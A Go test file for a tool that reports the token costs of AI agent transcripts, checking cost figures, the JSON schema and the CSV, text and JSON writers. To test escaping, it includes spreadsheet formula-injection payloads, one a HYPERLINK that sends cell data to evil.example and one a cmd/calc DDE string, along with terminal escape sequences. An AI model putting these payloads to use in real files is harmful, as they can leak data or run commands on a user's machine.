package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"github.com/spillway-dev/spillway/internal/ledger"
	"io"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/spillway-dev/spillway/guard/policy"
	"github.com/spillway-dev/spillway/guard/pricing"
	"github.com/spillway-dev/spillway/guard/replay"
	"github.com/spillway-dev/spillway/guard/tokens"
	"github.com/spillway-dev/spillway/internal/app"
	"github.com/spillway-dev/spillway/transcript"
)

// subagentFixture holds a session with two sub-agent logs (one under
// <session>/subagents/, one flat beside it), a copy of the session and
// another session.
var subagentFixture = filepath.Join("..", "internal", "app", "testdata", "projects")

// updating tells whether -update (x/exp/golden's flag) asks for the
// golden files to be written again.
func updating() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

func fixture(name string) string { return filepath.Join("..", "testdata", "transcripts", name) }

func build(t *testing.T, name string) *Session {
	t.Helper()
	s, err := transcript.ReadFile(fixture(name), transcript.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return buildWith(t, s, pricing.Default(), "none")
}

// buildWith reports s replayed through a preset, counting tokens with
// o200k_base unless the preset never acts.
func buildWith(t *testing.T, s *transcript.Session, prices *pricing.Table, preset string) *Session {
	t.Helper()
	pol, err := policy.Preset(preset)
	if err != nil {
		t.Fatal(err)
	}
	return buildPolicy(t, s, prices, pol)
}

// buildPolicy reports s replayed through pol, counting tokens with
// o200k_base unless pol never acts.
func buildPolicy(t *testing.T, s *transcript.Session, prices *pricing.Table, pol policy.Policy) *Session {
	t.Helper()
	var counter replay.TokenCounter
	if !pol.Inert() {
		c, err := tokens.Get(tokens.O200kBase)
		if err != nil {
			t.Fatal(err)
		}
		counter = tokens.NewCache(c)
	}
	prep, err := replay.Prepare(context.Background(), s, counter, prices, nil)
	if err != nil {
		t.Fatal(err)
	}
	rp, err := prep.Replay(pol, replay.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return Build(rp)
}

func TestBuildClaude(t *testing.T) {
	r := build(t, "claude.jsonl")
	// claude-sonnet-4-5 rates: input 3e-6, 5-minute write 3.75e-6, one-hour write 6e-6, cache read 3e-7, output 1.5e-5.
	wantCalls := []float64{
		3*3e-6 + 1000*3.75e-6 + 5000*3e-7 + 1*1.5e-5,             // 0.005274
		5*3e-6 + 1500*3.75e-6 + 500*6e-6 + 6000*3e-7 + 50*1.5e-5, // 0.011190
		7*3e-6 + 300*3.75e-6 + 20*1.5e-5,                         // 0.001446
	}
	if len(r.Calls) != len(wantCalls) {
		t.Fatalf("%d calls", len(r.Calls))
	}
	var sum float64
	for i, c := range r.Calls {
		if c.CostUSD == nil || math.Abs(*c.CostUSD-wantCalls[i]) > 1e-12 {
			t.Errorf("call %d cost = %v, want %.9f", i, c.CostUSD, wantCalls[i])
		}
		sum += wantCalls[i]
	}
	if math.Abs(sum-0.01791) > 1e-12 {
		t.Fatalf("hand sum %.9f", sum)
	}
	tot := r.Totals
	if tot.CostUSD == nil || math.Abs(*tot.CostUSD-0.01791) > 1e-12 {
		t.Errorf("total cost = %v, want 0.017910", tot.CostUSD)
	}
	wantTok := Tokens{Input: 3 + 5 + 7, CacheCreation: 1000 + 2000 + 300, CacheRead: 5000 + 6000, Output: 1 + 50 + 20}
	if tot.Recorded != wantTok {
		t.Errorf("recorded = %+v, want %+v", tot.Recorded, wantTok)
	}
	if p := *r.Calls[1].PromptTokens; p != 5+2000+6000 {
		t.Errorf("prompt tokens of call 1 = %d", p)
	}
	// Results: the lock-file read, the grep (two text blocks and an image), the error.
	lock := "     1→{\n     2→  \"name\": \"café\",\n     3→}\n"
	grep, bashErr := "a.js:1:lodash\nb.js:2:lodash", "<tool_use_error>npm: not found</tool_use_error>"
	wantResults := []Result{
		{CallID: "toolu_1", Tool: "Read", CallIndex: 0, Line: 6, Bytes: len(lock), Action: "keep", Reason: "no ceiling", BytesAfter: int64(len(lock)), SentAt: 1},
		{CallID: "toolu_3", Tool: "Grep", CallIndex: 1, Line: 10, Bytes: len(grep), Images: 1, Action: "keep", Reason: "no ceiling", BytesAfter: int64(len(grep)), SentAt: 3},
		{CallID: "toolu_2", Tool: "Bash", CallIndex: 1, Line: 11, IsError: true, Bytes: len(bashErr), Action: "keep", Reason: "no ceiling", BytesAfter: int64(len(bashErr)), SentAt: 3},
	}
	// 11 + 28 + 11 bytes: each line is 5 spaces, a digit and a 3-byte U+2192; é is 2 bytes.
	if len(lock) != 50 {
		t.Fatalf("lock text is %d bytes, want 50", len(lock))
	}
	if diff := cmp.Diff(wantResults, r.Results); diff != "" {
		t.Errorf("results (-want +got):\n%s", diff)
	}
	if tot.ResultBytes != 50+27+47 || tot.Compactions != 1 || tot.Warnings != 2 || tot.ToolResults != 3 {
		t.Errorf("totals %+v", tot)
	}
}

func TestBuildUnpriced(t *testing.T) {
	r := build(t, "generic.jsonl")
	tot := r.Totals
	if tot.CostUSD != nil {
		t.Errorf("total cost = %v, want unknown: one model has no price", *tot.CostUSD)
	}
	// The priced call: claude-haiku-4-5, 100×1e-6 + 900×1e-7 + 40×5e-6.
	if want := 100*1e-6 + 900*1e-7 + 40*5e-6; math.Abs(tot.PricedCostUSD-want) > 1e-12 {
		t.Errorf("priced cost = %.9f, want %.9f", tot.PricedCostUSD, want)
	}
	if diff := cmp.Diff([]string{"unknown-model-x"}, tot.UnpricedModels); diff != "" {
		t.Error(diff)
	}
	if r.Calls[1].CostUSD != nil {
		t.Error("an unpriced call must have no cost, not $0")
	}
}

func TestBuildNoUsage(t *testing.T) {
	r := build(t, "antigravity.jsonl")
	if r.Totals.CostUSD != nil || r.Totals.CallsNoData != 3 || r.Calls[0].Recorded != nil || r.Calls[0].PromptTokens != nil {
		t.Errorf("a log without usage must report unknown cost: %+v", r.Totals)
	}
	// Under a policy the results are counted, but no priced call carried
	// them: their carry cost is unknown, not $0.
	s, err := transcript.ReadFile(fixture("antigravity.jsonl"), transcript.Options{})
	if err != nil {
		t.Fatal(err)
	}
	r = buildWith(t, s, pricing.Default(), "harness-rs-0.0.40")
	for _, res := range r.Results {
		if res.Tokens == nil || res.CarryCost != nil || res.CarryCalls != 0 {
			t.Errorf("result %s: tokens %v, carried by %d calls for %v; want counted, carried by no priced call, cost unknown",
				res.CallID, res.Tokens, res.CarryCalls, res.CarryCost)
		}
	}
}

// TestJSONContract checks the JSON report against the schema in
// docs/report-formats.md: every key it lists is in every object of its
// kind, whether or not it has a value, so that scripts can rely on it.
func TestJSONContract(t *testing.T) {
	block := regexp.MustCompile("(?s)```\n(\\{\"schema\":\"spillway.report/v1\".*?)```").FindStringSubmatch(docs(t, "report-formats.md"))
	if block == nil {
		t.Fatal("docs/report-formats.md has no spillway.report/v1 schema block")
	}
	// The block's parts: "name":[{keys}] for lists, "name":{keys} for
	// objects; what is left are the session's own keys.
	schema := string(block[1])
	part := func(name string) []string {
		m := regexp.MustCompile(`"` + name + `":\[?\{([^}]*)\}`).FindStringSubmatch(schema)
		if m == nil {
			t.Fatalf("the schema has no %q part", name)
		}
		schema = strings.Replace(schema, m[0], `"`+name+`"`, 1)
		return quotedKeys(m[1])
	}
	recorded := part("recorded")
	byKind := part("by_kind")
	rewriteKeys := part("rewrite")
	costDetail := part("cost_detail")
	costParts := part("cost_parts")
	hazard := part("hazard")
	calls, results, events := part("calls"), part("results"), part("events")
	byTool := part("by_tool")
	part("recorded")
	part("actions")
	hazards := part("hazards")
	totals := part("totals")
	part("calibration")
	tokensKeys, warnings := part("tokens"), part("warnings")
	part("policy")
	// A sub-agent's object has every key of a session but "subagents",
	// and a session has "subagents" only when it ran any.
	if !strings.Contains(schema, `"subagents":[{every key of a session but "subagents"}]`) {
		t.Fatal(`the schema does not say what "subagents" holds`)
	}
	schema = strings.Replace(schema, `"subagents":[{every key of a session but "subagents"}]`, "", 1)
	sessions := quotedKeys(schema[strings.Index(schema, `"sessions":[{`)+len(`"sessions":[{`):])

	var buf bytes.Buffer
	w, _ := NewWriter("json", &buf, "test prices")
	if err := w.Begin(); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"claude.jsonl", "antigravity.jsonl"} {
		s, err := transcript.ReadFile(fixture(name), transcript.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for _, preset := range []string{"none", "harness-rs-0.0.40"} {
			writeSession(t, w, buildWith(t, s, pricing.Default(), preset))
		}
	}
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema   string `json:"schema"`
		Sessions []map[string]json.RawMessage
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, buf.String())
	}
	if doc.Schema != "spillway.report/v1" || len(doc.Sessions) != 4 {
		t.Fatalf("schema %q, %d sessions", doc.Schema, len(doc.Sessions))
	}
	for i, s := range doc.Sessions {
		if _, ok := s["subagents"]; ok {
			t.Errorf("session %d ran no sub-agent but has \"subagents\"", i)
		}
	}
	has := func(what string, obj map[string]json.RawMessage, keys []string) {
		t.Helper()
		for _, k := range keys {
			if _, ok := obj[k]; !ok {
				t.Errorf("%s lacks %q", what, k)
			}
		}
	}
	each := func(what string, raw json.RawMessage, keys []string) int {
		t.Helper()
		var list []map[string]json.RawMessage
		if err := json.Unmarshal(raw, &list); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for i, obj := range list {
			has(fmt.Sprintf("%s[%d]", what, i), obj, keys)
		}
		return len(list)
	}
	// A session that ran sub-agents: theirs are objects of the session's keys.
	var withSubs bytes.Buffer
	for _, preset := range []string{"none", "harness-rs-0.0.40"} {
		pol, _ := policy.Preset(preset)
		w, _ := NewWriter("json", &withSubs, "test prices")
		opt := Options{Prices: pricing.Default(), Policy: pol, Counter: app.Tokenizer(tokens.O200kBase)}
		if _, err := Generate([]string{subagentFixture}, nil, opt, w, io.Discard); err != nil {
			t.Fatal(err)
		}
		var subDoc struct{ Sessions []map[string]json.RawMessage }
		if err := json.Unmarshal(withSubs.Bytes(), &subDoc); err != nil {
			t.Fatal(err)
		}
		withSubs.Reset()
		var subs []map[string]json.RawMessage
		for _, s := range subDoc.Sessions {
			var list []map[string]json.RawMessage
			json.Unmarshal(s["subagents"], &list)
			subs = append(subs, list...)
		}
		if len(subs) != 2 {
			t.Fatalf("%s: %d sub-agents, want the 2 of the fixture", preset, len(subs))
		}
		for i, sub := range subs {
			has(fmt.Sprintf("%s: sub-agent %d", preset, i), sub, sessions)
			if _, ok := sub["subagents"]; ok {
				t.Errorf("%s: sub-agent %d has sub-agents of its own", preset, i)
			}
			doc.Sessions = append(doc.Sessions, sub) // checked below as the others
		}
	}
	seen := map[string]int{}
	for i, s := range doc.Sessions {
		has(fmt.Sprintf("session %d", i), s, sessions)
		seen["calls"] += each("calls", s["calls"], calls)
		seen["results"] += each("results", s["results"], results)
		var rs []struct{ Hazard map[string]json.RawMessage }
		json.Unmarshal(s["results"], &rs)
		for i, r := range rs {
			if r.Hazard == nil {
				continue
			}
			want := hazard
			if string(r.Hazard["retrievable"]) != "true" {
				want = slices.DeleteFunc(slices.Clone(hazard), func(k string) bool { return k == "extra_tokens" })
			}
			has(fmt.Sprintf("results[%d].hazard", i), r.Hazard, want)
			seen["hazards"]++
		}
		seen["events"] += each("events", s["events"], events)
		var tot map[string]json.RawMessage
		json.Unmarshal(s["totals"], &tot)
		has("totals", tot, totals)
		var hz map[string]json.RawMessage
		json.Unmarshal(tot["hazards"], &hz)
		has("totals.hazards", hz, hazards)
		var rec map[string]json.RawMessage
		json.Unmarshal(tot["recorded"], &rec)
		has("totals.recorded", rec, recorded)
		var tok map[string]json.RawMessage
		json.Unmarshal(s["tokens"], &tok)
		has("tokens", tok, tokensKeys)
		seen["warnings"] += each("warnings", s["warnings"], warnings)
		seen["by_tool"] += each("by_tool", s["by_tool"], byTool)
		var list []map[string]json.RawMessage
		json.Unmarshal(s["calls"], &list)
		for j, c := range list {
			if string(c["cost_parts"]) != "null" {
				var parts map[string]json.RawMessage
				json.Unmarshal(c["cost_parts"], &parts)
				has(fmt.Sprintf("calls[%d].cost_parts", j), parts, costParts)
				seen["cost_parts"]++
				var detail map[string]json.RawMessage
				json.Unmarshal(c["cost_detail"], &detail)
				has(fmt.Sprintf("calls[%d].cost_detail", j), detail, costDetail)
				var kinds map[string]json.RawMessage
				json.Unmarshal(detail["by_kind"], &kinds)
				has(fmt.Sprintf("calls[%d].cost_detail.by_kind", j), kinds, byKind)
				if string(detail["rewrite"]) != "null" {
					var rw map[string]json.RawMessage
					json.Unmarshal(detail["rewrite"], &rw)
					has(fmt.Sprintf("calls[%d].cost_detail.rewrite", j), rw, rewriteKeys)
				}
			}
		}
	}
	for _, what := range []string{"calls", "results", "events", "by_tool", "cost_parts"} {
		if seen[what] == 0 {
			t.Errorf("the fixtures give no %s: the test checks nothing there", what)
		}
	}
	var tot struct {
		CostUSD *float64 `json:"cost_usd"`
	}
	json.Unmarshal(doc.Sessions[2]["totals"], &tot)
	if tot.CostUSD != nil {
		t.Errorf("antigravity cost_usd = %v, want null", *tot.CostUSD)
	}
}

// quotedKeys lists the "keys" in a part of a schema block, skipping
// values written as strings ("kind":"compaction"|…).
func quotedKeys(s string) []string {
	var keys []string
	for _, m := range regexp.MustCompile(`"([a-z_0-9<>]+)"(:"[^"]*")?`).FindAllStringSubmatch(s, -1) {
		if !strings.HasPrefix(m[1], "<") {
			keys = append(keys, m[1])
		}
	}
	return keys
}

// writeSession renders s and writes it.
func writeSession(t *testing.T, w Writer, s *Session) {
	t.Helper()
	data, err := w.Render(s)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(data); err != nil {
		t.Fatal(err)
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter("csv", &buf, "")
	w.Begin()
	writeSession(t, w, build(t, "claude.jsonl"))
	w.End()
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines:\n%s", len(lines), buf.String())
	}
	// Under the inert default policy the after columns repeat the recorded ones.
	want := "sess-claude-1,../testdata/transcripts/claude.jsonl,claude-code,1,2026-01-02T10:00:04Z,claude-sonnet-4-5,5,2000,6000,50,8005,0.011190000,2,,"
	if lines[2] != want {
		t.Errorf("row 1 =\n%s\nwant\n%s", lines[2], want)
	}
}

// TestCSVFormulas: text cells a spreadsheet would run as a formula start
// with a quote; numbers, negative or not, stay numbers.
func TestCSVFormulas(t *testing.T) {
	s, err := transcript.ReadFile(fixture("claude.jsonl"), transcript.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s.ID = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	s.Path = "@SUM(A1)/x.jsonl"
	s.Calls[0].Model = "+cmd|' /C calc'!A0"
	s.Calls[1].Model = "-2+3"
	s.Calls[2].Model = "\tab"
	rep := buildWith(t, s, pricing.Default(), "none")
	rep.Calls[2].CostUSD = ptr(-0.5) // a negative number is no formula
	var buf bytes.Buffer
	w, _ := NewWriter("csv", &buf, "")
	w.Begin()
	writeSession(t, w, rep)
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for _, r := range rows[1:] {
		got = append(got, []string{r[0], r[1], r[5], r[11]})
	}
	want := [][]string{
		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", "'+cmd|' /C calc'!A0", ""}, // no price: an empty cell
		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", "'-2+3", ""},
		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", `\tab`, "-0.500000000"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("session id, path, model, cost cells (-want +got):\n%s", diff)
	}
}

// TestCSVSemicolons: a spreadsheet reading the file as ';'-separated
// splits a cell at each ';': a formula after one is quoted as one at the
// start is.
func TestCSVSemicolons(t *testing.T) {
	for in, want := range map[string]string{
		";=1+1;":   ";'=1+1;",
		"x;=1+1;y": "x;'=1+1;y",
		"a; +2":    "a; '+2",
		"=a;-b":    "'=a;'-b",
		"a;;@c":    "a;;'@c",
		"a;b; c;":  "a;b; c;",
		"plain":    "plain",
		"-1":       "'-1",
		" +00":     " '+00",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}

func ptr[T any](v T) *T { return &v }

func TestTextGolden(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter("text", &buf, "")
	for _, name := range []string{"claude.jsonl", "codex.jsonl", "generic.jsonl"} {
		writeSession(t, w, build(t, name))
	}
	golden := filepath.Join("..", "testdata", "report", "fixtures.txt")
	if updating() {
		os.MkdirAll(filepath.Dir(golden), 0o755)
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update)", err)
	}
	if diff := cmp.Diff(string(want), buf.String()); diff != "" {
		t.Errorf("text report differs from %s (-want +got):\n%s", golden, diff)
	}
}

// TestJSONGolden pins the JSON report's bytes: the fixtures with no policy
// and with one that acts, and a session whose strings and figures are
// where JSON encoders differ (HTML characters, U+2028 and U+2029, invalid
// UTF-8, controls, numbers in exponent form).
func TestJSONGolden(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter("json", &buf, "test prices")
	if err := w.Begin(); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"claude.jsonl", "codex.jsonl", "generic.jsonl", "antigravity.jsonl"} {
		s, err := transcript.ReadFile(fixture(name), transcript.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for _, preset := range []string{"none", "harness-rs-0.0.50"} {
			writeSession(t, w, buildWith(t, s, pricing.Default(), preset))
		}
	}
	odd := build(t, "claude.jsonl")
	odd.Title = "<b>a & b</b> \u2028\u2029 \xff\xfe \x00\x1f\x7f \u202e\u009b"
	odd.SessionID = `"quoted" \back\slash/ é→😀`
	odd.Calls[0].CostUSD = ptr(1e-7)
	odd.Calls[1].CostUSD = ptr(1.5e21)
	odd.Calls[2].CostUSD = ptr(0.000123456789)
	writeSession(t, w, odd)
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("..", "testdata", "report", "fixtures.json")
	if updating() {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update)", err)
	}
	if !bytes.Equal(want, buf.Bytes()) {
		t.Errorf("JSON report differs from %s (-want +got):\n%s", golden, cmp.Diff(string(want), buf.String()))
	}
}

// TestCallRow pins each cell of a call's line in the text table, with and
// without a policy's after columns.
func TestCallRow(t *testing.T) {
	when := time.Date(2026, 1, 2, 10, 0, 4, 0, time.UTC)
	prompt, output, after := int64(8005), int64(50), int64(1234567)
	cost, costAfter := 0.01119, 0.0042
	recorded := Call{Index: 1, Time: &when, Model: "claude-sonnet-4-5", Recorded: &Tokens{}, PromptTokens: &prompt,
		OutputTokens: &output, PromptTokensAfter: &after, CostUSD: &cost, CostUSDAfter: &costAfter, ToolCalls: 2,
		CostDetail: &CostDetail{Cause: "cache rewrite"}}
	lower := recorded
	lower.OutputLowerBound = true
	unpriced := recorded
	unpriced.CostUSD, unpriced.CostUSDAfter, unpriced.CostDetail = nil, nil, nil
	bare := Call{Index: 12, Model: "m\x1b[31m", ToolCalls: 0}
	tests := []struct {
		name   string
		call   Call
		active bool
		want   string
	}{
		{"recorded", recorded, false, "1\t2026-01-02 10:00:04\tclaude-sonnet-4-5\t8,005\t50\t$0.011190\t2\tcache rewrite\t\n"},
		{"recorded, policy", recorded, true, "1\t2026-01-02 10:00:04\tclaude-sonnet-4-5\t8,005\t1,234,567\t50\t$0.011190\t$0.004200\t2\tcache rewrite\t\n"},
		{"lower bound", lower, false, "1\t2026-01-02 10:00:04\tclaude-sonnet-4-5\t8,005\t≥50\t$0.011190\t2\tcache rewrite\t\n"},
		{"unpriced, policy", unpriced, true, "1\t2026-01-02 10:00:04\tclaude-sonnet-4-5\t8,005\t1,234,567\t50\tunknown\tunknown\t2\t–\t\n"},
		{"no usage, no time", bare, false, "12\t–\tm\\x1b[31m\t–\t–\t–\t0\t–\t\n"},
		{"no usage, no time, policy", bare, true, "12\t–\tm\\x1b[31m\t–\t–\t–\t–\t–\t0\t–\t\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(callRow(nil, &tt.call, tt.active)); got != tt.want {
				t.Errorf("callRow =\n%q\nwant\n%q", got, tt.want)
			}
		})
	}
}

// TestHostileText writes a session whose file name, id, title, model and
// tool name carry terminal controls in every format, and checks that none
// reaches the output raw, and that each is escaped once, not twice.
func TestHostileText(t *testing.T) {
	const evil = "\x1b[31mRED\x1b]0;pwned\x07\u009b2J\u202eevil\x7f"
	const shown = `\x1b[31mRED\x1b]0;pwned\x07\x9b2J\u202eevil\x7f`
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	log := `{"type":"custom-title","customTitle":` + q("T"+evil) + `,"sessionId":` + q("S"+evil) + "}\n" +
		`{"type":"assistant","uuid":"u1","sessionId":` + q("S"+evil) + `,"timestamp":"2026-01-02T10:00:00Z","requestId":"r1",` +
		`"message":{"id":"m1","model":` + q("M"+evil) + `,"stop_reason":"tool_use","usage":{"input_tokens":1,"output_tokens":1},` +
		`"content":[{"type":"tool_use","id":"t1","name":` + q("N"+evil) + `,"input":{}}]}}` + "\n" +
		`{"type":"user","uuid":"u2","sessionId":` + q("S"+evil) + `,"timestamp":"2026-01-02T10:00:01Z",` +
		`"message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]}}` + "\n"
	path := filepath.Join(t.TempDir(), "F"+evil+".jsonl")
	if err := os.WriteFile(path, []byte(log), 0o600); err != nil {
		t.Skipf("this file system refuses the name: %v", err)
	}
	none, err := policy.Preset("none")
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			if format == "parquet" {
				t.Skip("tables for engines, written to a folder, keep strings as they are: TestParquetHostile")
			}
			var out, errw bytes.Buffer
			w, err := NewWriter(format, &out, "")
			if err != nil {
				t.Fatal(err)
			}
			p, err := Generate([]string{path}, nil, Options{Prices: pricing.Default(), Policy: none}, w, &errw)
			if err != nil || p != (Problems{}) {
				t.Fatalf("%v %+v %s", err, p, errw.String())
			}
			got := out.String()
			if i := strings.IndexAny(got, "\x1b\x07\x7f\u009b\u202e"); i >= 0 {
				t.Errorf("a control reached the output raw at byte %d: %q", i, got[max(0, i-20):min(len(got), i+20)])
			}
			switch format {
			case "json":
				var doc struct {
					Sessions []struct {
						Path, SessionID, Title string
						Session_ID             string `json:"session_id"`
						Models                 []string
					}
				}
				if err := json.Unmarshal(out.Bytes(), &doc); err != nil {
					t.Fatal(err)
				}
				// JSON keeps the exact strings: only their encoding is escaped.
				s := doc.Sessions[0]
				if s.Path != path || s.Session_ID != "S"+evil || s.Title != "T"+evil || s.Models[0] != "M"+evil {
					t.Errorf("JSON changed the strings: %+v", s)
				}
			case "text":
				for _, want := range []string{"F" + shown + ".jsonl", "session S" + shown, `"T` + shown + `"`, "M" + shown} {
					if !strings.Contains(got, want) {
						t.Errorf("text lacks %q:\n%s", want, got)
					}
				}
			case "csv":
				for _, want := range []string{"S" + shown + ",", "F" + shown + ".jsonl,", ",M" + shown + ","} {
					if !strings.Contains(got, want) {
						t.Errorf("CSV lacks %q:\n%s", want, got)
					}
				}
			}
		})
	}
}

// FuzzCSVText: no piece of a text cell, split as a ',' or ';'-separated
// spreadsheet splits it, starts a formula, after spaces or not.
func FuzzCSVText(f *testing.F) {
	for _, s := range []string{";=1+1;", "=1+1", "a; @b", "\t=x", "-2+3", "x;;+y"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := csvText(s)
		for _, piece := range strings.Split(out, ";") {
			if p := strings.TrimLeft(piece, " "); p != "" && strings.IndexByte("=+-@\t\r", p[0]) >= 0 {
				t.Errorf("csvText(%q) = %q: %q starts a formula", s, out, p)
			}
		}
	})
}

// TestRealizedLineAdds: the hook's realized line says what it added where
// its replacements were longer: 625 → 768 tokens is +143, and the dollars
// as more paid, not as a negative saving.
func TestRealizedLineAdds(t *testing.T) {
	more := -0.010523
	r := &RealizedTotals{Totals: ledger.Totals{Results: 1, Bytes: 2048, BytesAfter: 4096, Tokens: 625, TokensAfter: 768}, SavedUSD: &more, Policies: []string{"harness-rs-0.0.40"}}
	want := "  realized by spillway's hook (harness-rs-0.0.40): 1 result shaped, 2.0 KiB → 4.0 KiB, tokens 625 → 768 (+143), about $0.010523 more paid\n"
	if got := realizedLine(r); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}
